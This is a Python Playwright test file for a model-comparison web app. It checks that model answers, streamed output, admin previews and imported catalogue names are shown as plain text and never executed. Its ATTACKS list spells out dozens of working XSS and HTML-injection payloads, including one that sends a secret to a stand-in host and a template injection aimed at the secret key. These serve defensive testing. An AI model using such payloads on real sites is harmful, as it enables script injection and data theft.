"""What a model writes is shown, never obeyed: before the vote, while it streams, after it, in the admin."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from arena.votes.models import Vote
from tests import factories
from tests.browser import scenes
from tests.browser.conftest import Visit
from tests.browser.watch import Watch
from tests.browser.worker import Gate, Worker

pytestmark = pytest.mark.browser

BATTLE = re.compile(r"/battles/[0-9a-f-]+/$")
RESULT = re.compile(r"/battles/[0-9a-f-]+/result/$")
HIT = "window.attacked = true"
# Every URL holds `attacked`, and every script sets window.attacked.
ATTACKS = [
    f"<script>{HIT}; alert(1)</script>",
    '<script src="/attacked.js"></script>',
    f'<img src="/attacked.png" onerror="{HIT}">',
    f'<svg onload="{HIT}"><a xlink:href="javascript:{HIT}"><text>svg text</text></a></svg>',
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{HIT}">',
    f"[a script link](javascript:{HIT})",
    f"[an encoded link](java&#115;cript:{HIT})",
    f"[a data link](data:text/html,<script>{HIT}</script>)",
    f"<javascript:{HIT}>",
    f'<a href="javascript:{HIT}" autofocus onfocus="{HIT}" tabindex="1">html link</a>',
    "<style>body { display: none } @import '/attacked.css';</style>",
    '<p style="position:fixed;inset:0;background:url(/attacked.png)">covers the page</p>',
    '<form action="/attacked" id="main"><button data-key="a">A is better</button><input name="input"></form>',
    '<meta http-equiv="refresh" content="0; url=/attacked">',
    '<base href="https://attacked.example/">',
    '<link rel="stylesheet" href="/attacked.css">',
    '<div hx-get="/attacked" hx-trigger="load" hx-on:htmx:load="window.attacked = true">htmx</div>',
    '<div data-hx-get="/attacked" data-hx-trigger="load">htmx too</div>',
    "![a picture](/attacked.png)",
    "![a far picture](https://attacked.example/pixel.png?q=secret)",
    '![a broken picture](x" onerror="window.attacked = true)',
    '<iframe src="/attacked" srcdoc="<script>parent.attacked = true</script>"></iframe>',
    '<object data="/attacked"></object><embed src="/attacked">',
    f'<video src="/attacked" onerror="{HIT}" autoplay></video><audio src="/attacked" autoplay></audio>',
    f'<details open ontoggle="{HIT}"><summary>more</summary></details>',
    f'<body onload="{HIT}">',
    f"<template><img src=x onerror='{HIT}'></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{HIT}'>\">",
    f'```html" onmouseover="{HIT}\n<img src=/attacked onerror="{HIT}">\n```',
    f"`</code></pre><img src=x onerror={HIT}>`",
    '<div id="vote" class="ballot visually-hidden" data-key="a" role="alert" >ours?</div>',
    "</div></section></main><h1>You have won</h1>",
    f"<img src='x'onerror={HIT}//>",
    f"\x01<img\x0bsrc=/attacked\x0conerror={HIT}>",
    "<textarea autofocus></textarea><title>attacked</title><plaintext>",
    "<!-- a comment that never ends",
    "{% load static %}{{ settings.SECRET_KEY }}{{ 7|add:7 }}",
]
# An attack that swallows what follows it cannot hide the others from both.
FORWARDS, BACKWARDS = "\n\n".join(ATTACKS), "\n\n".join(reversed(ATTACKS))
ALLOWED = ["a", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s"]
ALLOWED += ["span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"]
# Every element and attribute that a pane with untrusted text may hold.
STRANGE = """(allowed) => {
  const isHarmless = ({localName}, {name, value}) => ({
    a: name === "rel" || (name === "href" && /^(https?:|mailto:)/.test(value)),
    pre: name === "tabindex" || (name === "class" && value === "highlight"),
    span: name === "class",
    ol: name === "start",
    td: name === "align",
    th: name === "align",
  })[localName];
  return [...document.querySelectorAll(".markdown *")].filter((element) =>
    !allowed.includes(element.localName) || element.namespaceURI !== "http://www.w3.org/1999/xhtml" ||
    [...element.attributes].some((attribute) => !isHarmless(element, attribute))
  ).map((element) => element.outerHTML);
}"""
LOOK_AT_EVERY_STEP = f"""(allowed) => {{
  const strange = {STRANGE};
  window.steps = 0;
  window.found = [];
  new MutationObserver(() => {{
    window.steps += 1;
    window.found.push(...strange(allowed));
  }}).observe(document.querySelector(".answers"), {{childList: true, subtree: true}});
}}"""


def harmless(page: Page, watch: Watch) -> None:
    assert page.evaluate("window.attacked") is None, "a script of an answer has run"
    assert page.evaluate(STRANGE, ALLOWED) == []
    assert [url for url in watch.urls if "attacked" in url] == []
    assert page.evaluate("document.title.includes('Arena') && document.baseURI === location.href")
    expect(page.locator("h1")).to_have_count(1)
    expect(page.locator("#main")).to_have_count(1)
    expect(page.locator("main form")).to_have_count(1)
    expect(page.locator("body")).to_be_visible()


def shown(page: Page) -> None:
    """Nothing is hidden from the voter either: the attack is there to be read."""
    for letter in "AB":
        answer = page.locator(".answer", has_text=letter).locator(".markdown")
        expect(answer.first).to_contain_text("<iframe src=")
        expect(answer.first).to_contain_text("You have won")
        expect(answer.first).to_contain_text("{{ settings.SECRET_KEY }}")


@pytest.mark.parametrize("javascript", [True, False])
def test_stored_answers_are_harmless_before_and_after_the_vote(
    visit: Visit, watch: Watch, javascript: bool
) -> None:
    scenes.answered_with(FORWARDS, BACKWARDS)
    page = visit(javascript=javascript)
    page.goto("/")
    page.locator("#vote").get_by_role("button", name="Vote").click()
    expect(page).to_have_url(BATTLE)
    page.wait_for_load_state("networkidle")
    shown(page)
    if javascript:
        harmless(page, watch)
        page.keyboard.press("a")  # the page's own key, not a button that an answer brought
    else:
        page.locator(".ballot [value=a]").click()
    expect(page).to_have_url(RESULT)
    page.wait_for_load_state()
    assert Vote.objects.get().outcome == "model_a"
    shown(page)
    if javascript:
        harmless(page, watch)
    assert [url for url in watch.urls if "attacked" in url] == []


def test_streamed_answers_are_harmless_at_every_step(
    page: Page, watch: Watch, worker: Worker, gate: Gate
) -> None:
    """The stream cuts the text anywhere, also in the middle of a tag, and the page takes it as HTML."""
    arena = scenes.live(FORWARDS, BACKWARDS, provider="gated")
    page.goto(f"/arenas/{arena.slug}/ask/")
    page.get_by_label("Your prompt").fill("Attack me.")
    page.get_by_role("button", name="Ask two systems").click()
    expect(page).to_have_url(BATTLE)
    page.evaluate(LOOK_AT_EVERY_STEP, ALLOWED)
    worker.start(jobs=2)
    for letter in "AB":
        expect(page.locator(f"[data-side={letter}]")).to_contain_text("You have won", timeout=40_000)
    assert page.evaluate("window.steps") > 10
    assert page.evaluate("window.found") == []
    assert page.evaluate("window.attacked") is None
    gate.open()
    expect(page.get_by_role("form", name="Your vote")).to_be_visible(timeout=40_000)
    harmless(page, watch)


def test_a_link_of_an_answer_tells_nobody_where_it_was(page: Page) -> None:
    scenes.answered_with("[out](https://example.org/)", "No link.")
    page.goto("/")
    page.locator("#vote").get_by_role("button", name="Vote").click()
    link = page.locator(".answer a")
    expect(link).to_have_attribute("rel", "nofollow noopener noreferrer")


def test_a_test_answer_is_harmless_in_the_admin(
    page: Page, watch: Watch, worker: Worker, admin_user: object
) -> None:
    system = factories.system(provider="fake", provider_options={"text": FORWARDS})
    page.goto("/admin/login/")
    page.get_by_label("Username").fill("admin")
    page.get_by_label("Password").fill("password")
    page.get_by_role("button", name="Log in").click()
    page.goto(f"/admin/generation/test/{system.pk}/")
    page.get_by_role("button", name="Test it").click()
    worker.run(jobs=1)
    output = page.locator("pre.test-output")
    expect(output).to_contain_text("<iframe src=")
    assert output.locator("*").count() == 0
    assert page.evaluate("window.attacked") is None
    assert [url for url in watch.urls if "attacked" in url] == []


def test_names_of_the_catalogue_are_shown_as_text(page: Page) -> None:
    """An importer takes names from files, so they are untrusted too."""
    name = f'<img src=/attacked onerror="{HIT}">'
    arena = factories.arena(prompts=3, name=name, description=name, citation=f"{name} https://example.org/")
    for number in range(2):
        system = factories.system(f"{name} {number}", organisation=name, licence=name[:100], arena=arena)
        for prompt in arena.prompt_sets.get().prompts.all():
            factories.response(system=system, prompt=prompt)
    board = factories.board(arena, slug="people", name=name)
    scenes.cast(arena, "a")
    scenes.snapshot_refresh(board=board)
    for url in ("/", "/leaderboards/", f"/leaderboards/{arena.slug}/", f"/leaderboards/{arena.slug}/people/"):
        page.goto(url)
        expect(page.locator("main")).to_contain_text(name)
        assert page.locator("main img").count() == 0
        assert page.evaluate("window.attacked") is None
